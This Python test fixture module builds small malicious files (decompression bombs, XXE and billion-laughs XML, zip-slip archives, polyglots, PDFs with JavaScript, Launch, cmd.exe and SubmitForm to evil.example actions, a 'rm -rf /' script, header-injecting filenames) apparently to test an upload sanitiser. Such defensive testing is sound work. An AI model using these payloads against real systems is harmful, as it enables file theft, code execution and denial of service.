"""Files that somebody made to harm: what they pretend to be, what they would unpack to.

Each is made anew and small; `FILES` names them all. What may become of each is said by the tests.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from tests import paper
from tests.paper import CATALOGUE, ONE_PAGE, PAGE, pdf

SCRIPT = b"<script>alert(1)</script>"
HTML = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"
MEBI = 2**20
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
TYPES, RELS = "[Content_Types].xml", "_rels/.rels"
XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha">%s]><x>&z9;</x>' % b"".join(
    b'<!ENTITY z%d "%s">' % (n, (b"&z%d;" % (n - 1) if n else b"&a;") * 10) for n in range(10)
)


# --- pictures ------------------------------------------------------------------------------------


def chunk(name: bytes, data: bytes) -> bytes:
    crc = zlib.crc32(name + data)
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", crc)


def png(*chunks: bytes, wide: int = 20, high: int = 20) -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", wide, high, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(chunks)


def jpeg(wide: int, high: int) -> bytes:
    """A JPEG whose head says another size than its data has."""
    made = bytearray(paper.picture("JPEG", size=(40, 40)))
    at = made.index(b"\xff\xc0") + 5
    made[at : at + 4] = struct.pack(">HH", high, wide)
    return bytes(made)


def webp(wide: int, high: int) -> bytes:
    """A WebP that says so many pixels and brings none."""
    bits = (wide - 1) | (high - 1) << 14
    body = b"VP8L" + struct.pack("<I", 10) + b"\x2f" + struct.pack("<I", bits) + bytes(5)
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body


PIXELS = chunk(b"IDAT", zlib.compress(bytes(20 * 61)))
END = chunk(b"IEND", b"")
PICTURES: dict[str, Callable[[], bytes]] = {
    "a PNG of 50,000 × 50,000": paper.flood,
    "a PNG of 2^31 pixels a side": lambda: png(PIXELS, END, wide=2**31 - 1, high=2**31 - 1),
    "a PNG without pixels": lambda: png(END),
    "a PNG of no size": lambda: png(PIXELS, END, wide=0, high=0),
    "a PNG with a wrong sum": lambda: png(PIXELS[:-4] + b"abcd", END),
    "a PNG whose colours are a bomb": lambda: png(
        chunk(b"iCCP", b"x\0\0" + zlib.compress(bytes(40 * MEBI), 9)), PIXELS, END
    ),
    "a PNG whose text is a bomb": lambda: png(
        chunk(b"zTXt", b"x\0\0" + zlib.compress(bytes(40 * MEBI), 9)), PIXELS, END
    ),
    "a PNG that ends as a page": lambda: png(PIXELS, END) + HTML,
    "a JPEG of 65,500 × 65,500": lambda: jpeg(65500, 65500),
    "a JPEG with a script in its comment": lambda: paper.picture("JPEG", comment=SCRIPT),
    "a JPEG that breaks off": lambda: paper.picture("JPEG")[:30],
    "a WebP of 16,383 × 16,383": lambda: webp(16383, 16383),
    "a WebP that is a page": lambda: b"RIFF\x10\0\0\0WEBP" + HTML,
    "a GIF": lambda: paper.picture("GIF"),
    "a GIF that is a script": lambda: b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)",
    "a TIFF": lambda: paper.picture("TIFF"),
    "an icon": lambda: paper.picture("ICO", size=(32, 32)),
    "a bitmap": lambda: paper.picture("BMP"),
}

# --- pages that pretend --------------------------------------------------------------------------

PRETENDING: dict[str, Callable[[], bytes]] = {
    "a page": lambda: HTML,
    "a page behind a mark of order": lambda: b"\xef\xbb\xbf" + HTML,
    "a drawing": lambda: SVG,
    "a drawing behind a declaration": lambda: b'<?xml version="1.0"?>\n' + SVG,
    "an XHTML page": lambda: b'<html xmlns="http://www.w3.org/1999/xhtml">' + SCRIPT + b"</html>",
    "XML with a style sheet": lambda: b'<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><x/>',
    "a page in UTF-16": lambda: b"\xff\xfe" + HTML.decode().encode("utf-16-le"),
    "a page of several parts": lambda: (
        b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + HTML
    ),
    "a page that mentions PDF": lambda: SCRIPT + b"%PDF-1.7\n",
    "a program of Windows": lambda: b"MZ" + bytes(200),
    "a program of Linux": lambda: b"\x7fELF" + bytes(200),
    "a shell script": lambda: b"#!/bin/sh\nrm -rf /\n",
    "PostScript": lambda: b"%!PS-Adobe-3.0\n(x) run\n",
    "rich text": lambda: b"{\\rtf1\\object\\objupdate}",
    "a Flash film": lambda: b"CWS\x0a" + bytes(60),
    "a gzip of nothing": lambda: zlib.compress(bytes(30 * MEBI), 9, 31),
}

# --- PDF -----------------------------------------------------------------------------------------


def stream(head: bytes, data: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (head, len(data), data)


def acting(action: bytes) -> bytes:
    return pdf(CATALOGUE[:-2] + b"/OpenAction << %s >> >>" % action, ONE_PAGE, PAGE)


def sized(box: bytes) -> bytes:
    return pdf(CATALOGUE, ONE_PAGE, PAGE.replace(b"0 0 842 595", box))


def looping() -> bytes:
    made = pdf(CATALOGUE, ONE_PAGE, PAGE)
    place = made.rindex(b"xref\n0")
    return made.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % place)


def packed_many_times() -> bytes:
    data = bytes(20 * MEBI)
    for _ in range(4):
        data = zlib.compress(data, 9)
    filters = b"/Filter [" + b"/FlateDecode " * 4 + b"]"
    page = PAGE[:-2] + b"/Contents 4 0 R >>"
    return pdf(CATALOGUE, ONE_PAGE, page, stream(filters, data))


def object_bomb() -> bytes:
    """Objects that hide in a stream which unpacks to 60 MB."""
    data = zlib.compress(b"3 0 " + b" " * (60 * MEBI) + PAGE, 9)
    head = b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"
    made = b"%PDF-1.5\n"
    places = []
    for number, body in ((1, CATALOGUE), (2, ONE_PAGE), (4, stream(head, data))):
        places.append(len(made))
        made += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    rows = [(0, 0, 65535), (1, places[0], 0), (1, places[1], 0), (2, 4, 0), (1, places[2], 0)]
    rows.append((1, len(made), 0))
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    start = len(made)
    made += b"5 0 obj\n%s\nendobj\n" % stream(b"/Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R", table)
    return made + b"startxref\n%d\n%%%%EOF\n" % start


def annexed() -> bytes:
    """A PDF that is an archive as well."""
    return paper.deck(1) + paper.zipped({"index.html": HTML})


ATTACHED = b"/Names << /EmbeddedFiles << /Names [(x.exe) 4 0 R] >> >> >>"
PDFS: dict[str, Callable[[], bytes]] = {
    "a PDF with a script": lambda: acting(b"/S /JavaScript /JS (app.alert\\(1\\))"),
    "a PDF that starts a program": lambda: acting(b"/S /Launch /F (cmd.exe)"),
    "a PDF that opens an address": lambda: acting(b"/S /URI /URI (http://169.254.169.254/)"),
    "a PDF that sends a form": lambda: acting(b"/S /SubmitForm /F (http://evil.example/)"),
    "a PDF with a program attached": lambda: pdf(
        CATALOGUE[:-2] + ATTACHED,
        ONE_PAGE,
        PAGE,
        b"<< /Type /Filespec /F (x.exe) /EF << /F 5 0 R >> >>",
        stream(b"/Type /EmbeddedFile", b"MZ" + bytes(99)),
    ),
    "a PDF with a form in XML": lambda: pdf(
        CATALOGUE[:-2] + b"/AcroForm << /XFA 4 0 R >> >>", ONE_PAGE, PAGE, stream(b"", XXE)
    ),
    "a PDF of 10,000 pages": paper.endless,
    "a PDF whose pages hold themselves": lambda: pdf(
        CATALOGUE, b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 5 >>"
    ),
    "a PDF that says 2^31 pages": lambda: pdf(
        CATALOGUE, ONE_PAGE.replace(b"/Count 1", b"/Count 2147483647"), PAGE
    ),
    "a PDF of fewer than no pages": lambda: pdf(
        CATALOGUE, ONE_PAGE.replace(b"/Count 1", b"/Count -7"), PAGE
    ),
    "a PDF without pages": lambda: pdf(CATALOGUE, b"<< /Type /Pages /Kids [] /Count 0 >>"),
    "a PDF as large as a country": lambda: sized(b"0 0 99999999999 99999999999"),
    "a PDF of no size": lambda: sized(b"0 0 0 0"),
    "a PDF turned inside out": lambda: sized(b"842 595 0 0"),
    "a locked PDF": paper.locked,
    "a PDF that breaks off": lambda: paper.deck(2)[:400],
    "a PDF that is only its head": lambda: b"%PDF-1.7\n",
    "a PDF that is a page": lambda: b"%PDF-1.7\n" + HTML,
    "a PDF that ends as a page": lambda: paper.deck(1) + HTML,
    "a PDF that is an archive too": annexed,
    "a PDF whose table goes in circles": looping,
    "a PDF packed four times": packed_many_times,
    "a PDF whose objects are a bomb": object_bomb,
    "a PDF with a picture of 30,000 × 30,000": lambda: paper.filled_page_of(30_000),
    "a PDF with 100,000 brackets": lambda: pdf(
        CATALOGUE[:-2] + b"/X " + b"[" * 100_000 + b"]" * 100_000 + b">>", ONE_PAGE, PAGE
    ),
}

# --- archives ------------------------------------------------------------------------------------


def member(name: str, mode: int = 0, data: bytes = b"x") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        info = zipfile.ZipInfo("x" * len(name) if "\0" in name else name)
        info.external_attr = mode << 16
        info.compress_type = zipfile.ZIP_DEFLATED
        archive.writestr(info, data)
    return (
        out.getvalue().replace(b"x" * len(name), name.encode()) if "\0" in name else out.getvalue()
    )


def at_end(content: bytes, place: int, form: str, *values: int) -> bytes:
    """An archive whose last record says something else at this place."""
    made = bytearray(content)
    at = made.rindex(b"PK\x05\x06") + place
    made[at : at + struct.calcsize(form)] = struct.pack(form, *values)
    return bytes(made)


def overlapping(files: int = 250, kernel: int = 4 * MEBI) -> bytes:
    """Many names for one packed run of bytes, as in the bombs of David Fifield."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(bytes(kernel)) + packer.flush()
    crc = zlib.crc32(bytes(kernel))
    facts = (20, 0, 8, 0, 0, crc, len(packed), kernel, 5, 0)
    made = b"PK\x03\x04" + struct.pack("<HHHHHIIIHH", *facts) + b"00000" + packed
    listing = b""
    for number in range(files):
        head = struct.pack("<HHHHHHIIIHHHHHII", 20, *facts, 0, 0, 0, 0, 0)
        listing += b"PK\x01\x02" + head + b"%05d" % number
    end = struct.pack("<HHHHIIH", 0, 0, files, files, len(listing), len(made), 0)
    return made + listing + b"PK\x05\x06" + end


def with_flag(content: bytes, bit: int) -> bytes:
    """An archive whose members say this of themselves."""
    made = bytearray(content)
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = made.find(mark)
        while at >= 0:
            made[at + place] |= bit
            at = made.find(mark, at + 4)
    return bytes(made)


def large_kind() -> bytes:
    """An archive of the large kind that says it holds 2^62 files."""
    made = member("a.txt")
    at = made.rindex(b"PK\x05\x06")
    record = b"PK\x06\x06" + struct.pack("<QHHIIQQQQ", 44, 45, 45, 0, 0, 2**62, 2**62, 2**62, 0)
    locator = b"PK\x06\x07" + struct.pack("<IQI", 0, at, 1)
    return made[:at] + record + locator + made[at:]


ARCHIVES: dict[str, Callable[[], bytes]] = {
    "an archive that slips out": lambda: member("../../etc/cron.d/x"),
    "an archive that slips out of Windows": lambda: member("..\\..\\x"),
    "an archive with an absolute name": lambda: member("/etc/passwd"),
    "an archive with a drive": lambda: member("C:\\Windows\\x.dll"),
    "an archive with a link": lambda: member("link", 0o120777, b"/etc/passwd"),
    "an archive with a device": lambda: member("null", 0o020666),
    "an archive with a NUL in a name": lambda: member("a.txt\0.html"),
    "an archive in an archive": lambda: member("a.zip", 0, member("b.txt")),
    "an archive with one name twice": lambda: paper.zipped({"a.txt": b"1", "b.txt": b"2"}).replace(
        b"b.txt", b"a.txt"
    ),
    "an archive of 5,000 files": lambda: paper.zipped({f"{n}.txt": b"" for n in range(5000)}),
    "an archive that is a bomb": lambda: paper.zipped({"a": bytes(60 * MEBI)}),
    "an archive of names for one bomb": overlapping,
    "an archive that says 60,000 files": lambda: at_end(member("a.txt"), 8, "<HH", 60000, 60000),
    "an archive whose list is elsewhere": lambda: at_end(member("a.txt"), 16, "<I", 2**32 - 2),
    "an archive whose list is endless": lambda: at_end(member("a.txt"), 12, "<I", 2**31),
    "an archive of the large kind that lies": large_kind,
    "a locked archive": lambda: with_flag(member("a.txt"), 1),
    "an archive behind a page": lambda: HTML + member("a.txt"),
    "an archive that is only its head": lambda: b"PK\x03\x04" + bytes(100),
    "an archive of a page": lambda: member("index.html", 0, HTML),
}

# --- documents -----------------------------------------------------------------------------------

OUTSIDE = (
    b'<Relationships><Relationship TargetMode="External" Target="http://evil.example/x.dotm"/>'
)


def word(**parts: bytes) -> bytes:
    usual = {TYPES: b"<Types/>", RELS: b"<R/>", "word/document.xml": b"<w:document/>"}
    return paper.zipped(usual | parts)


def hwpx(content: bytes) -> bytes:
    return paper.zipped({"mimetype": b"application/hwp+zip", "Contents/section0.xml": content})


def compound(tail: bytes = b"") -> bytes:
    """A compound file whose chains of sectors all lead back to themselves."""
    head = OLE + bytes(16) + struct.pack("<HHHHH", 62, 3, 0xFFFE, 9, 6) + bytes(10)
    head += struct.pack("<IIIIII", 1, 0, 0, 4096, 0, 1) + struct.pack("<II", 0, 1)
    head += struct.pack("<I", 0) * 109
    return head[:512].ljust(512, b"\0") + struct.pack("<128I", *([0] * 128)) + tail


DOCUMENTS: dict[str, Callable[[], bytes]] = {
    "a document that reads a file": lambda: word(
        word__document_xml=b"", **{"word/styles.xml": XXE}
    ),
    "a document that laughs": lambda: word(**{"word/document.xml": LAUGHS}),
    "a document whose type stands late": lambda: word(
        **{"word/document.xml": b"<!--" + b"x" * 70_000 + b"-->" + LAUGHS[21:]}
    ),
    "a document whose type is in UTF-16": lambda: word(
        **{"word/document.xml": XXE.decode().encode("utf-16")}
    ),
    "a document with macros": lambda: word(**{"word/vbaProject.bin": OLE}),
    "a document that fetches its style": lambda: word(**{"word/_rels/document.xml.rels": OUTSIDE}),
    "a talk that reads a file": lambda: paper.zipped(
        {TYPES: b"<T/>", "ppt/presentation.xml": b"<p/>", "ppt/slides/slide1.xml": XXE}
    ),
    "a HWPX that reads a file": lambda: hwpx(XXE),
    "a HWPX that laughs": lambda: hwpx(LAUGHS),
    "a compound file that goes in circles": compound,
    "a HWP that goes in circles": lambda: compound(b"HWP Document File V3.00 "),
    "a film whose box is 2^64 long": lambda: (
        b"\0\0\0\x18ftypisom" + bytes(12) + b"\0\0\0\x01moov" + b"\xff" * 8
    ),
    "a film of boxes in boxes": lambda: (
        b"\0\0\0\x18ftypmp42"
        + bytes(12)
        + b"".join(struct.pack(">I", 8 * (5000 - n)) + b"moov" for n in range(5000))
    ),
    "a film that is a page": lambda: b"\0\0\0\x18ftypisom" + HTML,
}

FILES = {**PICTURES, **PRETENDING, **PDFS, **ARCHIVES, **DOCUMENTS}

NAMES = {
    "../../etc/passwd": "passwd",
    "..\\..\\boot.ini": "boot.ini",
    "/etc/cron.d/x": "x",
    "C:\\Windows\\x.dll": "x.dll",
    "x" * 300 + ".pdf": "x" * 196 + ".pdf",
    "가\u202efdp.exe": "가fdp.exe",
    "a\r\nSet-Cookie: x=1.pdf": "aSet-Cookie: x=1.pdf",
    'a";filename="b.html': 'a";filename="b.html',
    "CON": "CON",
    "index.html": "index.html",
    "<script>.svg": "<script>.svg",
}
